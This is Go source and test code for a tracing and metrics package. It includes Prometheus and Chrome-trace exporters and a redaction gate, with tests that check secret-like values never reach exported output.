// whose methods no-op, so disabled instrumentation costs one nil check.
type Metrics struct {
	mu       sync.Mutex
	order    []string
	counters map[string]*Counter
	gauges   map[string]*Gauge
	hists    map[string]*Histogram
}

// NewMetrics builds an empty registry.
func NewMetrics() *Metrics {
	return &Metrics{
		counters: make(map[string]*Counter),
		gauges:   make(map[string]*Gauge),
		hists:    make(map[string]*Histogram),
	}
}

// gateMetricName keeps metric names within the Prometheus-text character
// repertoire; anything else becomes '_'. Metric names are call-site
// literals, so this is belt and suspenders, not a sanitizer for data.
func gateMetricName(name string) string {
	clean := true
	for i := 0; i < len(name); i++ {
		if !isMetricNameByte(name[i]) {
			clean = false
			break
		}
	}
	if clean {
		return name
	}
	var b strings.Builder
	b.Grow(len(name))
	for i := 0; i < len(name); i++ {
		if isMetricNameByte(name[i]) {
			b.WriteByte(name[i])
		} else {
			b.WriteByte('_')
		}
	}
	return b.String()
}

func isMetricNameByte(c byte) bool {
	switch {
	case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
		return true
	case c == '_' || c == ':' || c == '{' || c == '}' || c == '=' || c == '"' ||
		c == ',' || c == '.' || c == '-':
		return true
	}
	return false
}

// Counter returns the named counter, creating it on first use.
func (m *Metrics) Counter(name string) *Counter {
	if m == nil {
		return nil
	}
	name = gateMetricName(name)
	m.mu.Lock()
	defer m.mu.Unlock()
	if c, ok := m.counters[name]; ok {
		return c
	}
	c := new(Counter)
	m.counters[name] = c
	m.order = append(m.order, name)
	return c
}

// Gauge returns the named gauge, creating it on first use.
func (m *Metrics) Gauge(name string) *Gauge {
	if m == nil {
		return nil
	}
	name = gateMetricName(name)
	m.mu.Lock()
	defer m.mu.Unlock()
	if g, ok := m.gauges[name]; ok {
		return g
	}
	g := new(Gauge)
	m.gauges[name] = g
	m.order = append(m.order, name)
	return g
}

// Histogram returns the named latency histogram, creating it on first use.
func (m *Metrics) Histogram(name string) *Histogram {
	if m == nil {
		return nil
	}
	name = gateMetricName(name)
	m.mu.Lock()
	defer m.mu.Unlock()
	if h, ok := m.hists[name]; ok {
		return h
	}
	h := new(Histogram)
	m.hists[name] = h
	m.order = append(m.order, name)
	return h
}

// splitLabels separates `name{labels}` into its base name and label body.
func splitLabels(name string) (base, labels string) {
	if i := strings.IndexByte(name, '{'); i >= 0 && strings.HasSuffix(name, "}") {
		return name[:i], name[i+1 : len(name)-1]
	}
	return name, ""
}

// joinLabels re-assembles a metric name from a base, existing labels and an
// extra label.
func joinLabels(base, labels, extra string) string {
	switch {
	case labels == "" && extra == "":
		return base
	case labels == "":
		return base + "{" + extra + "}"
	case extra == "":
		return base + "{" + labels + "}"
	}
	return base + "{" + labels + "," + extra + "}"
}

// WritePrometheus dumps every collector in Prometheus text exposition
// format, in a stable order (registration order per base name, sorted).
func (m *Metrics) WritePrometheus(w io.Writer) error {
	if m == nil {
		return nil
	}
	m.mu.Lock()
	names := append([]string(nil), m.order...)
	counters := make(map[string]*Counter, len(m.counters))
	for k, v := range m.counters {
		counters[k] = v
	}
	gauges := make(map[string]*Gauge, len(m.gauges))
	for k, v := range m.gauges {
		gauges[k] = v
	}
	hists := make(map[string]*Histogram, len(m.hists))
	for k, v := range m.hists {
		hists[k] = v
	}
	m.mu.Unlock()

	sort.Strings(names)
	for _, name := range names {
		if c, ok := counters[name]; ok {
			if _, err := fmt.Fprintf(w, "%s %d\n", name, c.Value()); err != nil {
				return err
			}
		}
		if g, ok := gauges[name]; ok {
			if _, err := fmt.Fprintf(w, "%s %d\n", name, g.Value()); err != nil {
				return err
			}
		}
		if h, ok := hists[name]; ok {
			base, labels := splitLabels(name)
			var cum uint64
			for i := 0; i < len(histBounds); i++ {
				cum += h.buckets[i].Load()
				le := fmt.Sprintf(`le="%g"`, histBounds[i].Seconds())
				if _, err := fmt.Fprintf(w, "%s %d\n", joinLabels(base+"_bucket", labels, le), cum); err != nil {
					return err
				}
			}
			cum += h.buckets[len(histBounds)].Load()
			if _, err := fmt.Fprintf(w, "%s %d\n", joinLabels(base+"_bucket", labels, `le="+Inf"`), cum); err != nil {
				return err
			}
			if _, err := fmt.Fprintf(w, "%s %d\n", joinLabels(base+"_count", labels, ""), h.Count()); err != nil {
				return err
			}
			if _, err := fmt.Fprintf(w, "%s %g\n", joinLabels(base+"_sum", labels, ""), h.Sum().Seconds()); err != nil {
				return err
			}
		}
	}
	return nil
}
