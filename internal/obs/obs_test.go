package obs

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
)

// simClock is a hand-advanced clock standing in for netsim's virtual clock.
type simClock struct{ at time.Duration }

func (c *simClock) now() time.Duration { return c.at }

func newSimTracer(capn int) (*Tracer, *simClock) {
	c := &simClock{}
	return New(Options{Now: c.now, Cap: capn}), c
}

func TestSpanTreeNesting(t *testing.T) {
	tr, clk := newSimTracer(0)

	login := tr.StartSpan(PhaseLogin, App("bank"))
	clk.at = 10 * time.Millisecond
	mig := tr.StartSpan(PhaseDSMMigrate, Bytes(4096))
	if trace, span, ok := tr.Current(); !ok || trace != mig.Trace() || span != mig.ID() {
		t.Fatalf("Current = (%v,%v,%v), want migrate span", trace, span, ok)
	}
	tr.Event(PhaseTaintTrigger, TagBits(1))
	clk.at = 30 * time.Millisecond
	mig.End()
	clk.at = 50 * time.Millisecond
	login.End()

	recs := tr.Records()
	if len(recs) != 3 {
		t.Fatalf("got %d records, want 3", len(recs))
	}
	byPhase := map[Phase]SpanRecord{}
	for _, r := range recs {
		byPhase[r.Phase] = r
	}
	root := byPhase[PhaseLogin]
	if root.Parent != 0 || root.Trace == 0 {
		t.Fatalf("root span malformed: %+v", root)
	}
	if m := byPhase[PhaseDSMMigrate]; m.Parent != root.ID || m.Trace != root.Trace {
		t.Fatalf("migrate span not child of login: %+v", m)
	}
	if ev := byPhase[PhaseTaintTrigger]; ev.Parent != byPhase[PhaseDSMMigrate].ID || ev.Duration() != 0 {
		t.Fatalf("event span malformed: %+v", ev)
	}
	if d := byPhase[PhaseDSMMigrate].Duration(); d != 20*time.Millisecond {
		t.Fatalf("migrate duration = %v, want 20ms", d)
	}
}

func TestStartRemoteAndChildAt(t *testing.T) {
	tr, clk := newSimTracer(0)

	parent := tr.StartSpan(PhaseControlRPC)
	remote := tr.StartRemote(PhaseNodeOp, parent.Trace(), parent.ID(), OpName("offload"))
	if _, span, _ := tr.Current(); span != parent.ID() {
		t.Fatalf("StartRemote must not touch the stack; current = %v", span)
	}
	remote.ChildAt(PhaseNodeExec, 5*time.Millisecond, 9*time.Millisecond, Count(1000))
	clk.at = 12 * time.Millisecond
	remote.EndAt(12 * time.Millisecond)
	parent.End()

	recs := tr.Records()
	var exec, nop SpanRecord
	for _, r := range recs {
		switch r.Phase {
		case PhaseNodeExec:
			exec = r
		case PhaseNodeOp:
			nop = r
		}
	}
	if nop.Parent != parent.ID() || nop.Trace != parent.Trace() {
		t.Fatalf("remote span not linked to wire parent: %+v", nop)
	}
	if exec.Parent != nop.ID || exec.Start != 5*time.Millisecond || exec.End != 9*time.Millisecond {
		t.Fatalf("ChildAt interval wrong: %+v", exec)
	}

	// A zero trace roots a fresh one.
	fresh := tr.StartRemote(PhaseNodeOp, 0, 0)
	fresh.End()
	last := tr.Records()[len(tr.Records())-1]
	if last.Trace == parent.Trace() || last.Parent != 0 {
		t.Fatalf("zero-trace StartRemote should mint a fresh root: %+v", last)
	}
}

func TestEndPopsAbandonedSpans(t *testing.T) {
	tr, _ := newSimTracer(0)
	outer := tr.StartSpan(PhaseLogin)
	tr.StartSpan(PhaseDeviceExec) // abandoned (no End)
	outer.End()
	if _, _, ok := tr.Current(); ok {
		t.Fatal("stack should be empty after outer.End")
	}
	// Double End is a no-op.
	outer.End()
	if n := len(tr.Records()); n != 1 {
		t.Fatalf("got %d records, want 1", n)
	}
}

func TestRecorderBoundAndOrder(t *testing.T) {
	tr, clk := newSimTracer(4)
	for i := 0; i < 7; i++ {
		clk.at = time.Duration(i) * time.Millisecond
		tr.Event(PhaseTaintTrigger)
	}
	recs := tr.Records()
	if len(recs) != 4 {
		t.Fatalf("got %d records, want cap 4", len(recs))
	}
	if tr.Dropped() != 3 {
		t.Fatalf("dropped = %d, want 3", tr.Dropped())
	}
	for i := 1; i < len(recs); i++ {
		if recs[i].Start < recs[i-1].Start {
			t.Fatalf("records out of order: %v then %v", recs[i-1].Start, recs[i].Start)
		}
	}
	if recs[0].Start != 3*time.Millisecond {
		t.Fatalf("oldest retained = %v, want 3ms", recs[0].Start)
	}
	tr.Reset()
	if len(tr.Records()) != 0 || tr.Dropped() != 0 {
		t.Fatal("Reset did not clear the recorder")
	}
}

func TestGate(t *testing.T) {
	cases := []struct{ in, want string }{
		{"cor-1", "cor-1"},
		{"has\nnewline", "has_newline"},
		{`quote"back\slash`, "quote_back_slash"},
		{"caf\xc3\xa9", "caf__"},
		{"\x00\x1f\x7f", "___"},
	}
	for _, c := range cases {
		if got := gate(c.in); got != c.want {
			t.Errorf("gate(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	long := strings.Repeat("a", 200)
	if got := gate(long); len(got) != maxStrField {
		t.Errorf("gate long len = %d, want %d", len(got), maxStrField)
	}
}

func TestJSONLinesValid(t *testing.T) {
	tr, clk := newSimTracer(0)
	s := tr.StartSpan(PhaseLogin, App("bank"), Device("dev-1"))
	tr.Packet(0, "device", "node", 512, "mig")
	clk.at = 7 * time.Millisecond
	s.Add(Err(ErrTimeout), Retries(2))
	s.End()

	var buf strings.Builder
	if err := WriteJSONLines(&buf, tr.Records()); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 {
		t.Fatalf("got %d lines, want 2", len(lines))
	}
	for _, line := range lines {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("invalid JSON line %q: %v", line, err)
		}
		if _, ok := m["trace"].(string); !ok {
			t.Fatalf("line missing trace: %q", line)
		}
	}
	var last map[string]any
	if err := json.Unmarshal([]byte(lines[1]), &last); err != nil {
		t.Fatal(err)
	}
	if last["phase"] != "login" || last["err"] != "timeout" || last["retries"] != float64(2) {
		t.Fatalf("login line fields wrong: %v", last)
	}
}

func TestChromeTraceValid(t *testing.T) {
	tr, clk := newSimTracer(0)
	s := tr.StartSpan(PhaseDSMMigrate, Bytes(1024))
	tr.Packet(time.Millisecond, "device", "node", 1024, "")
	clk.at = 4 * time.Millisecond
	s.End()

	var buf strings.Builder
	if err := WriteChromeTrace(&buf, tr.Records()); err != nil {
		t.Fatal(err)
	}
	var events []map[string]any
	if err := json.Unmarshal([]byte(buf.String()), &events); err != nil {
		t.Fatalf("invalid chrome trace JSON: %v\n%s", err, buf.String())
	}
	if len(events) != 2 {
		t.Fatalf("got %d events, want 2", len(events))
	}
	sawX, sawI := false, false
	for _, e := range events {
		switch e["ph"] {
		case "X":
			sawX = true
			if e["name"] != "dsm_migrate" || e["dur"] != float64(4000) {
				t.Fatalf("X event wrong: %v", e)
			}
		case "i":
			sawI = true
			if e["name"] != "packet" {
				t.Fatalf("i event wrong: %v", e)
			}
		}
	}
	if !sawX || !sawI {
		t.Fatalf("missing event kinds: X=%v i=%v", sawX, sawI)
	}
}

// TestRedactionNoPlaintext proves cor plaintext cannot reach any exporter
// even when a span is opened around vault decryption: there is no field
// constructor that accepts it, and even abusing the ID constructors with
// plaintext-shaped material passes the gate (length cap + byte class
// filtering), while the legitimate call sites only ever pass the cor ID.
func TestRedactionNoPlaintext(t *testing.T) {
	const plaintext = "hunter2-secret-password!"
	const keyMaterial = "\x13\x37vault-key\x00bytes\xff"

	tr, clk := newSimTracer(0)
	m := NewMetrics()
	login := tr.StartSpan(PhaseLogin, App("bank"))
	vault := tr.StartSpan(PhaseVaultOpen, Cor("cor-pw-1"), Bytes(len(plaintext)))
	// Simulated vault decryption: the plaintext exists here, in scope, while
	// the span is open — and the only things recorded are ID and length.
	_ = plaintext
	m.Counter("tinman_vault_opens_total").Inc()
	m.Histogram("tinman_vault_open_seconds").Observe(40 * time.Microsecond)
	clk.at = time.Millisecond
	vault.End()
	// A hostile/buggy call site shoving raw material through an ID field
	// still cannot emit it verbatim: the gate mangles the byte classes that
	// make key blobs key blobs.
	tr.Event(PhaseVaultOpen, Cor(keyMaterial))
	login.End()

	var jsonl, chrome, prom strings.Builder
	if err := WriteJSONLines(&jsonl, tr.Records()); err != nil {
		t.Fatal(err)
	}
	if err := WriteChromeTrace(&chrome, tr.Records()); err != nil {
		t.Fatal(err)
	}
	if err := m.WritePrometheus(&prom); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{
		"jsonlines": jsonl.String(), "chrome": chrome.String(), "prometheus": prom.String(),
	} {
		if strings.Contains(out, plaintext) {
			t.Errorf("%s output contains cor plaintext:\n%s", name, out)
		}
		if strings.Contains(out, keyMaterial) {
			t.Errorf("%s output contains vault key material:\n%s", name, out)
		}
	}
	if !strings.Contains(jsonl.String(), `"cor":"cor-pw-1"`) {
		t.Error("cor ID should still be attributed")
	}
}

// TestObsZeroAllocDisabled pins the disabled-path cost: a nil tracer and nil
// collectors must not allocate (make obs-smoke gates on this).
func TestObsZeroAllocDisabled(t *testing.T) {
	var tr *Tracer
	var c *Counter
	var g *Gauge
	var h *Histogram
	allocs := testing.AllocsPerRun(1000, func() {
		s := tr.StartSpan(PhaseLogin)
		tr.Event(PhaseTaintTrigger)
		tr.Packet(0, "a", "b", 1, "")
		if tr.Enabled() {
			t.Fatal("nil tracer enabled")
		}
		s.Add(Bytes(1))
		s.End()
		c.Inc()
		g.Inc()
		g.Dec()
		h.Observe(time.Millisecond)
	})
	if allocs != 0 {
		t.Fatalf("disabled path allocates: %v allocs/op", allocs)
	}
}

func TestBreakdown(t *testing.T) {
	tr, clk := newSimTracer(0)
	root := tr.StartSpan(PhaseLogin)
	clk.at = 10 * time.Millisecond
	mig := tr.StartSpan(PhaseDSMMigrate)
	mig.ChildAt(PhaseNodeExec, 20*time.Millisecond, 40*time.Millisecond)
	mig.ChildAt(PhaseSyncBack, 40*time.Millisecond, 50*time.Millisecond)
	clk.at = 60 * time.Millisecond
	mig.End()
	clk.at = 100 * time.Millisecond
	root.End()

	recs := tr.Records()
	roots := Roots(recs)
	if len(roots) != 1 || roots[0].Phase != PhaseLogin {
		t.Fatalf("Roots = %+v", roots)
	}
	// Descendants cover [10,60) of a 100ms root.
	if cov := Coverage(recs, roots[0]); cov < 0.499 || cov > 0.501 {
		t.Fatalf("Coverage = %v, want 0.5", cov)
	}
	self := SelfTimes(recs)
	if self[PhaseDSMMigrate] != 20*time.Millisecond { // 50ms minus 30ms of children
		t.Fatalf("migrate self = %v, want 20ms", self[PhaseDSMMigrate])
	}
	if self[PhaseLogin] != 50*time.Millisecond {
		t.Fatalf("login self = %v, want 50ms", self[PhaseLogin])
	}
	if self[PhaseNodeExec] != 20*time.Millisecond || self[PhaseSyncBack] != 10*time.Millisecond {
		t.Fatalf("leaf selves wrong: %v", self)
	}
}

// TestConcurrentRemoteSpans exercises the concurrent-server API under the
// race detector: StartRemote and metrics from many goroutines.
func TestConcurrentRemoteSpans(t *testing.T) {
	tr := New(Options{Cap: 64})
	m := NewMetrics()
	done := make(chan struct{})
	for i := 0; i < 8; i++ {
		go func() {
			defer func() { done <- struct{}{} }()
			for j := 0; j < 200; j++ {
				s := tr.StartRemote(PhaseNodeOp, 7, 1, OpName("ping"))
				m.Counter("reqs").Inc()
				m.Gauge("inflight").Inc()
				m.Histogram("lat").Observe(time.Microsecond)
				m.Gauge("inflight").Dec()
				s.End()
			}
		}()
	}
	for i := 0; i < 8; i++ {
		<-done
	}
	if got := m.Counter("reqs").Value(); got != 1600 {
		t.Fatalf("reqs = %d, want 1600", got)
	}
	if got := m.Gauge("inflight").Value(); got != 0 {
		t.Fatalf("inflight = %d, want 0", got)
	}
	if got := tr.Dropped() + uint64(len(tr.Records())); got != 1600 {
		t.Fatalf("recorded+dropped = %d, want 1600", got)
	}
}
