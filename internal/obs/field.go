package obs

import "strings"

// FieldKind enumerates the typed span attributes. The kind fixes the
// exporter key AND the semantic class of the value: there is deliberately
// no free-form string kind, so a call site cannot put cor plaintext, vault
// key material or raw error text into a span — that is the structural half
// of the redaction gate (the other half is gate, below).
type FieldKind uint8

// Field kinds.
const (
	FieldNone FieldKind = iota
	// FieldCor carries a cor *ID* — never plaintext. Placeholders share the
	// ID namespace and are also permitted (they are public by design, §3.3).
	FieldCor
	// FieldApp carries an app name or dex hash.
	FieldApp
	// FieldDevice carries a device ID.
	FieldDevice
	// FieldDomain carries a destination domain (whitelist vocabulary).
	FieldDomain
	// FieldOp carries a protocol op name (fixed vocabulary).
	FieldOp
	// FieldMsg carries a control-plane message type (numeric).
	FieldMsg
	// FieldBytes carries a byte count.
	FieldBytes
	// FieldCount carries a generic count (instructions, entries).
	FieldCount
	// FieldRetries carries a retry count.
	FieldRetries
	// FieldTagBits carries a taint tag bitmask.
	FieldTagBits
	// FieldOutcome carries a policy outcome (1 allowed / 0 denied).
	FieldOutcome
	// FieldErrClass carries an ErrClass — never error text.
	FieldErrClass
	// FieldReason carries a policy denial reason (policy.Reason's fixed
	// vocabulary).
	FieldReason
	// FieldSrc and FieldDst carry simulated network addresses.
	FieldSrc
	FieldDst
	// FieldNote carries a fixed-vocabulary annotation (netsim tap notes).
	FieldNote
	fieldKindCount
)

var fieldKeys = [fieldKindCount]string{
	FieldNone:     "none",
	FieldCor:      "cor",
	FieldApp:      "app",
	FieldDevice:   "device",
	FieldDomain:   "domain",
	FieldOp:       "op",
	FieldMsg:      "msg",
	FieldBytes:    "bytes",
	FieldCount:    "count",
	FieldRetries:  "retries",
	FieldTagBits:  "tag_bits",
	FieldOutcome:  "outcome",
	FieldErrClass: "err",
	FieldReason:   "reason",
	FieldSrc:      "src",
	FieldDst:      "dst",
	FieldNote:     "note",
}

// Key returns the kind's fixed exporter key.
func (k FieldKind) Key() string {
	if k >= fieldKindCount {
		return "none"
	}
	return fieldKeys[k]
}

// Field is one typed span attribute: a kind plus either a gated string or
// a number. Construct fields only through the typed constructors below.
type Field struct {
	Kind FieldKind
	Str  string
	Num  int64
}

// maxStrField caps the gated length of any string field value.
const maxStrField = 96

// gate is the central string-redaction gate: every string that can reach an
// exporter passes through it. It length-caps the value and replaces control
// and non-ASCII bytes, so binary material (key blobs, ciphertext) cannot
// ride through an identifier field, and a hostile identifier cannot smuggle
// newlines into the JSON-lines or Prometheus text output.
func gate(s string) string {
	if len(s) > maxStrField {
		s = s[:maxStrField]
	}
	clean := true
	for i := 0; i < len(s); i++ {
		if c := s[i]; c < 0x20 || c >= 0x7f || c == '"' || c == '\\' {
			clean = false
			break
		}
	}
	if clean {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); i++ {
		if c := s[i]; c < 0x20 || c >= 0x7f || c == '"' || c == '\\' {
			b.WriteByte('_')
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

// Cor attributes a span to a cor by ID (or placeholder — never plaintext).
func Cor(id string) Field { return Field{Kind: FieldCor, Str: gate(id)} }

// App attributes a span to an app name or dex hash.
func App(nameOrHash string) Field { return Field{Kind: FieldApp, Str: gate(nameOrHash)} }

// Device attributes a span to a device ID.
func Device(id string) Field { return Field{Kind: FieldDevice, Str: gate(id)} }

// Domain attributes a span to a destination domain.
func Domain(d string) Field { return Field{Kind: FieldDomain, Str: gate(d)} }

// OpName attributes a span to a protocol operation.
func OpName(op string) Field { return Field{Kind: FieldOp, Str: gate(op)} }

// Reason attributes a span to a policy denial reason (fixed vocabulary).
func Reason(r string) Field { return Field{Kind: FieldReason, Str: gate(r)} }

// Src and Dst attribute a packet span to simulated addresses.
func Src(addr string) Field { return Field{Kind: FieldSrc, Str: gate(addr)} }

// Dst is Src's counterpart.
func Dst(addr string) Field { return Field{Kind: FieldDst, Str: gate(addr)} }

// Note carries a fixed-vocabulary annotation.
func Note(n string) Field { return Field{Kind: FieldNote, Str: gate(n)} }

// Msg records a control-plane message type.
func Msg(t uint8) Field { return Field{Kind: FieldMsg, Num: int64(t)} }

// Bytes records a byte count.
func Bytes(n int) Field { return Field{Kind: FieldBytes, Num: int64(n)} }

// Count records a generic count.
func Count(n int64) Field { return Field{Kind: FieldCount, Num: n} }

// Retries records a retry count.
func Retries(n int) Field { return Field{Kind: FieldRetries, Num: int64(n)} }

// TagBits records a taint tag bitmask.
func TagBits(bits uint64) Field { return Field{Kind: FieldTagBits, Num: int64(bits)} }

// Outcome records a policy decision: true = allowed.
func Outcome(allowed bool) Field {
	f := Field{Kind: FieldOutcome}
	if allowed {
		f.Num = 1
	}
	return f
}

// ErrClass classifies a failure for span attribution. Error *text* never
// enters a span — it routinely embeds IDs, addresses and lengths that the
// audit log may hold but a metrics endpoint must not.
type ErrClass uint8

// Error classes.
const (
	ErrNone ErrClass = iota
	ErrDenied
	ErrTimeout
	ErrUnavailable
	ErrTransport
	ErrBadRequest
	ErrInternal
	errClassCount
)

var errClassNames = [errClassCount]string{
	ErrNone:        "none",
	ErrDenied:      "denied",
	ErrTimeout:     "timeout",
	ErrUnavailable: "unavailable",
	ErrTransport:   "transport",
	ErrBadRequest:  "bad_request",
	ErrInternal:    "internal",
}

// String returns the class's fixed name.
func (c ErrClass) String() string {
	if c >= errClassCount {
		return "none"
	}
	return errClassNames[c]
}

// Err records a failure class on a span.
func Err(c ErrClass) Field { return Field{Kind: FieldErrClass, Num: int64(c)} }

// isStr reports whether the field's value is its gated string.
func (f Field) isStr() bool {
	switch f.Kind {
	case FieldCor, FieldApp, FieldDevice, FieldDomain, FieldOp, FieldReason,
		FieldSrc, FieldDst, FieldNote:
		return true
	}
	return false
}

// value returns the field's exporter representation.
func (f Field) valueStr() string {
	if f.Kind == FieldErrClass {
		return ErrClass(f.Num).String()
	}
	return f.Str
}
