package obs

import (
	"fmt"
	"strconv"
)

// Hex renders the trace ID for wire propagation (zero-padded so exporters
// and logs align).
func (t TraceID) Hex() string { return fmt.Sprintf("%016x", uint64(t)) }

// Hex renders the span ID for wire propagation.
func (s SpanID) Hex() string { return fmt.Sprintf("%x", uint64(s)) }

// ParseTraceID parses a wire-propagated trace ID; malformed input reads as
// zero, which StartRemote treats as "root a fresh trace".
func ParseTraceID(s string) TraceID {
	v, err := strconv.ParseUint(s, 16, 64)
	if err != nil {
		return 0
	}
	return TraceID(v)
}

// ParseSpanID parses a wire-propagated span ID; malformed input reads as
// zero (no parent).
func ParseSpanID(s string) SpanID {
	v, err := strconv.ParseUint(s, 16, 64)
	if err != nil {
		return 0
	}
	return SpanID(v)
}
