package obs

import (
	"sort"
	"time"
)

type interval struct{ start, end time.Duration }

// unionLen merges intervals (mutating its argument's order) and returns the
// total covered length.
func unionLen(ivs []interval) time.Duration {
	if len(ivs) == 0 {
		return 0
	}
	sort.Slice(ivs, func(i, j int) bool { return ivs[i].start < ivs[j].start })
	var total time.Duration
	cur := ivs[0]
	for _, iv := range ivs[1:] {
		if iv.start <= cur.end {
			if iv.end > cur.end {
				cur.end = iv.end
			}
			continue
		}
		total += cur.end - cur.start
		cur = iv
	}
	return total + (cur.end - cur.start)
}

// clip restricts iv to [lo, hi]; ok is false when nothing remains.
func clip(iv interval, lo, hi time.Duration) (interval, bool) {
	if iv.start < lo {
		iv.start = lo
	}
	if iv.end > hi {
		iv.end = hi
	}
	return iv, iv.end > iv.start
}

// Roots returns the parentless spans in recs, oldest first — one per trace
// in a typical flight-recorder dump.
func Roots(recs []SpanRecord) []SpanRecord {
	var out []SpanRecord
	for _, r := range recs {
		if r.Parent == 0 {
			out = append(out, r)
		}
	}
	return out
}

// Coverage reports the fraction of the root span's duration covered by its
// descendants (the union of their intervals, clipped to the root). A fully
// attributed trace approaches 1; the Fig 14 harness asserts >= 0.90.
func Coverage(recs []SpanRecord, root SpanRecord) float64 {
	if root.Duration() <= 0 {
		return 0
	}
	// Walk the subtree: children indexed by parent span ID (span IDs are
	// unique across traces on one tracer).
	children := make(map[SpanID][]SpanRecord)
	for _, r := range recs {
		if r.Trace == root.Trace && r.Parent != 0 {
			children[r.Parent] = append(children[r.Parent], r)
		}
	}
	var ivs []interval
	queue := []SpanID{root.ID}
	for len(queue) > 0 {
		id := queue[0]
		queue = queue[1:]
		for _, c := range children[id] {
			if iv, ok := clip(interval{c.Start, c.End}, root.Start, root.End); ok {
				ivs = append(ivs, iv)
			}
			queue = append(queue, c.ID)
		}
	}
	return float64(unionLen(ivs)) / float64(root.Duration())
}

// SelfTimes aggregates per-phase self time: each span's duration minus the
// union of its direct children's intervals (clipped to the span). Summed per
// phase, self times partition a trace's wall time the way Fig 14's stacked
// bars partition a login.
func SelfTimes(recs []SpanRecord) map[Phase]time.Duration {
	children := make(map[SpanID][]interval)
	for _, r := range recs {
		if r.Parent != 0 {
			children[r.Parent] = append(children[r.Parent], interval{r.Start, r.End})
		}
	}
	out := make(map[Phase]time.Duration)
	for _, r := range recs {
		if r.Duration() <= 0 {
			continue
		}
		var ivs []interval
		for _, iv := range children[r.ID] {
			if c, ok := clip(iv, r.Start, r.End); ok {
				ivs = append(ivs, c)
			}
		}
		self := r.Duration() - unionLen(ivs)
		if self > 0 {
			out[r.Phase] += self
		}
	}
	return out
}
