package obs

import (
	"fmt"
	"io"
	"strings"
)

// appendFieldsJSON renders a record's fields as JSON members. Keys come from
// the fixed FieldKind table and string values have already passed gate (no
// quotes, backslashes or control bytes), so no escaping pass is needed here.
func appendFieldsJSON(b *strings.Builder, fs []Field) {
	for _, f := range fs {
		if f.Kind == FieldNone {
			continue
		}
		b.WriteString(`,"`)
		b.WriteString(f.Kind.Key())
		b.WriteString(`":`)
		if f.isStr() || f.Kind == FieldErrClass {
			b.WriteByte('"')
			b.WriteString(f.valueStr())
			b.WriteByte('"')
		} else {
			fmt.Fprintf(b, "%d", f.Num)
		}
	}
}

// WriteJSONLines dumps span records as one JSON object per line, oldest
// first — the flight-recorder dump format.
func WriteJSONLines(w io.Writer, recs []SpanRecord) error {
	var b strings.Builder
	for _, r := range recs {
		b.Reset()
		fmt.Fprintf(&b, `{"trace":"%016x","span":"%x"`, uint64(r.Trace), uint64(r.ID))
		if r.Parent != 0 {
			fmt.Fprintf(&b, `,"parent":"%x"`, uint64(r.Parent))
		}
		b.WriteString(`,"phase":"`)
		b.WriteString(r.Phase.String())
		b.WriteByte('"')
		fmt.Fprintf(&b, `,"start_ns":%d,"dur_ns":%d`, int64(r.Start), int64(r.Duration()))
		appendFieldsJSON(&b, r.Fields)
		b.WriteString("}\n")
		if _, err := io.WriteString(w, b.String()); err != nil {
			return err
		}
	}
	return nil
}

// WriteChromeTrace dumps span records as a Chrome trace_event JSON array
// (load it in chrome://tracing or Perfetto). Durations become complete "X"
// events; instants (packets, taint triggers) become "i" events. The trace ID
// maps to the tid so each login renders as its own track, and nesting falls
// out of timestamp containment.
func WriteChromeTrace(w io.Writer, recs []SpanRecord) error {
	if _, err := io.WriteString(w, "[\n"); err != nil {
		return err
	}
	var b strings.Builder
	for i, r := range recs {
		b.Reset()
		if i > 0 {
			b.WriteString(",\n")
		}
		tsUS := float64(r.Start) / 1e3
		durUS := float64(r.Duration()) / 1e3
		if r.Start == r.End {
			fmt.Fprintf(&b, `{"name":"%s","ph":"i","s":"t","ts":%.3f,"pid":1,"tid":%d`,
				r.Phase.String(), tsUS, uint64(r.Trace))
		} else {
			fmt.Fprintf(&b, `{"name":"%s","ph":"X","ts":%.3f,"dur":%.3f,"pid":1,"tid":%d`,
				r.Phase.String(), tsUS, durUS, uint64(r.Trace))
		}
		fmt.Fprintf(&b, `,"args":{"span":"%x"`, uint64(r.ID))
		if r.Parent != 0 {
			fmt.Fprintf(&b, `,"parent":"%x"`, uint64(r.Parent))
		}
		appendFieldsJSON(&b, r.Fields)
		b.WriteString("}}")
		if _, err := io.WriteString(w, b.String()); err != nil {
			return err
		}
	}
	_, err := io.WriteString(w, "\n]\n")
	return err
}
