package obs

import (
	"strings"
	"testing"
	"time"
)

func TestMetricsRegistryReuse(t *testing.T) {
	m := NewMetrics()
	if m.Counter("a") != m.Counter("a") {
		t.Fatal("same name must return same counter")
	}
	m.Counter("a").Add(3)
	if got := m.Counter("a").Value(); got != 3 {
		t.Fatalf("counter = %d, want 3", got)
	}
	m.Gauge("g").Set(-5)
	if got := m.Gauge("g").Value(); got != -5 {
		t.Fatalf("gauge = %d, want -5", got)
	}
}

func TestNilMetricsNoOp(t *testing.T) {
	var m *Metrics
	m.Counter("x").Inc()
	m.Gauge("x").Set(1)
	m.Histogram("x").Observe(time.Second)
	if err := m.WritePrometheus(&strings.Builder{}); err != nil {
		t.Fatal(err)
	}
}

func TestHistogramBuckets(t *testing.T) {
	h := new(Histogram)
	h.Observe(10 * time.Microsecond)  // first bucket
	h.Observe(700 * time.Microsecond) // le=1ms
	h.Observe(time.Minute)            // overflow
	if h.Count() != 3 {
		t.Fatalf("count = %d, want 3", h.Count())
	}
	want := 10*time.Microsecond + 700*time.Microsecond + time.Minute
	if h.Sum() != want {
		t.Fatalf("sum = %v, want %v", h.Sum(), want)
	}
	if h.buckets[0].Load() != 1 || h.buckets[len(histBounds)].Load() != 1 {
		t.Fatal("bucket placement wrong")
	}
}

func TestWritePrometheus(t *testing.T) {
	m := NewMetrics()
	m.Counter(`tinman_reqs_total{op="offload"}`).Add(7)
	m.Gauge("tinman_inflight").Set(2)
	m.Histogram(`tinman_latency_seconds{op="ping"}`).Observe(80 * time.Microsecond)

	var b strings.Builder
	if err := m.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		`tinman_reqs_total{op="offload"} 7`,
		"tinman_inflight 2",
		`tinman_latency_seconds_bucket{op="ping",le="0.0001"} 1`,
